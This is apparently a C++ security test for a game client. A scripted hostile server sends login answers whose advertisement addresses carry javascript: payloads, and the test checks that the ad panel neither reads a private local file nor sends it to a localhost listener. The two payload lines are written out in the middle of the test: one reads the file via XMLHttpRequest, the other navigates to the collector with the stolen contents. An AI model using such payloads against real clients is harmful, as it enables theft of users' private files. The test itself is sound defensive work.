// A hostile game server against the whole client, in this process, with the
// real web engine: on one connection it sends three login answers whose
// advertisement addresses try to read a private local file through the ad
// panel and send it to a listener of its own. Nothing reaches the listener,
// no file of the player is opened, and the client keeps the first login and
// goes on talking to the server.

#include "ScriptedPeer.h"
#include "app/Client.h"
#include "platform/HallLink.h"
#include "platform/WebPanel.h"
#include "wire/ReceivedFrames.h"

#include <QDir>
#include <QFile>
#include <QTcpServer>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <sys/inotify.h>
#include <unistd.h>

#include <array>

namespace {

using namespace tessaroc;

const QString kHallCaption = QStringLiteral("hostile-login-hall");
const QByteArray kSecret = "player-secret-4711";

wire::MessageFrame loginAnswer(std::uint8_t turnSeconds, const QString &address)
{
    wire::LoginAnswerFrame answer;
    answer.turnSeconds = turnSeconds;
    answer.result = wire::kLoginAccepted;
    answer.advertAddress = address.toStdString();
    EXPECT_LE(answer.advertAddress.size(), 100U) << answer.advertAddress;
    return answer.encode();
}

// Every open or read of a file in a folder, from any process of the user.
class FolderWatch
{
public:
    explicit FolderWatch(const QString &folder)
        : fd_(inotify_init1(IN_NONBLOCK | IN_CLOEXEC))
    {
        inotify_add_watch(fd_, QFile::encodeName(folder).constData(), IN_OPEN | IN_ACCESS);
    }
    ~FolderWatch() { close(fd_); }
    QStringList touched() const
    {
        QStringList names;
        alignas(inotify_event) std::array<char, 4096> buffer{};
        ssize_t n;
        while ((n = read(fd_, buffer.data(), buffer.size())) > 0) {
            for (ssize_t at = 0; at < n;) {
                const auto *event = reinterpret_cast<const inotify_event *>(buffer.data() + at);
                names << QString::fromUtf8(event->len ? event->name : "");
                at += static_cast<ssize_t>(sizeof(inotify_event) + event->len);
            }
        }
        return names;
    }

private:
    int fd_;
};

TEST(HostileLogin, AdAddressesCannotReadLocalFilesNorSendThemOut)
{
    if (!platform::WebPanel::EngineAvailable())
        GTEST_SKIP() << "the web engine cannot start here: "
                     << platform::WebPanel::EngineError().toStdString();
    QTemporaryDir runtime;
    ASSERT_TRUE(runtime.isValid());
    qputenv("XDG_RUNTIME_DIR", runtime.path().toUtf8());
    // The player's files: a page to start from and a private file beside it.
    QTemporaryDir home(QDir::tempPath() + QStringLiteral("/h-XXXXXX"));
    ASSERT_TRUE(home.isValid());
    QFile page(home.filePath(QStringLiteral("hostname")));
    ASSERT_TRUE(page.open(QIODevice::WriteOnly));
    page.write("table-host\n");
    page.close();
    QFile secret(home.filePath(QStringLiteral("s")));
    ASSERT_TRUE(secret.open(QIODevice::WriteOnly));
    secret.write(kSecret);
    secret.close();
    secret.setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner);
    const FolderWatch watch(home.path());

    QTcpServer collector;
    ASSERT_TRUE(collector.listen(QHostAddress::LocalHost, 0));
    tableserver::ScriptedServer server;
    ASSERT_TRUE(server.listen());
    platform::HallLink hall;
    hall.setHandler([](std::uint32_t, std::int64_t, std::int64_t) { return 1; });
    ASSERT_TRUE(hall.listen(kHallCaption));

    app::Client client(10.0, runtime.filePath(QStringLiteral("tessaroc.lock")));
    const QString line = QStringLiteral("ann$pw$127.0.0.1$%1$0000001Room 1$0$$0$$$1$%2$%3$0$0$")
                                 .arg(server.port())
                                 .arg(kHallCaption, QStringLiteral("hostile-login-table"));
    ASSERT_TRUE(client.start(line.toStdString()));
    std::unique_ptr<tableserver::ScriptedConnection> table = server.accept(5000);
    ASSERT_TRUE(table);
    ASSERT_TRUE(
            table->expect(wire::CmdLogin, tableserver::ScriptedConnection::Predicate{}, 5000).ok);

    // A local page first, so that scripts run in a page that may read files;
    // then a script that reads the private file; then one that sends it out.
    platform::WebPanel &panel = client.form().area.WebBrowser1.widget();
    bool settled = false;
    QObject::connect(&panel, &platform::WebPanel::DocumentComplete, [&] { settled = true; });
    QObject::connect(&panel, &platform::WebPanel::NavigateError, [&] { settled = true; });
    table->send(loginAnswer(15, QUrl::fromLocalFile(page.fileName()).toString()));
    ASSERT_TRUE(tableserver::waitUntil([&] { return settled; }, 10000));
    const std::array<wire::MessageFrame, 2> scripts{
            loginAnswer(7,
                        QStringLiteral("javascript:x=new XMLHttpRequest;x.open('GET','s',!1);"
                                       "x.send();void(d=x.responseText)")),
            loginAnswer(9,
                        QStringLiteral("javascript:void(location='http://127.0.0.1:%1/'+d)")
                                .arg(collector.serverPort())),
    };
    table->send(scripts);

    EXPECT_FALSE(tableserver::waitUntil([&] { return collector.hasPendingConnections(); }, 1000))
            << "the ad panel sent something out";
    EXPECT_FALSE(watch.touched().contains(QStringLiteral("s"))) << "the private file was read";
    // Still at the table of the first login, and still talking to the server.
    const core::TableState &state = client.state();
    EXPECT_TRUE(state.loop.LoggedIn);
    EXPECT_EQ(state.core.TurnSeconds, 15);
    EXPECT_TRUE(table->expectEventually(wire::CmdKeepAlive, {}, 3000).ok)
            << table->transcriptText(10);
}

} // namespace
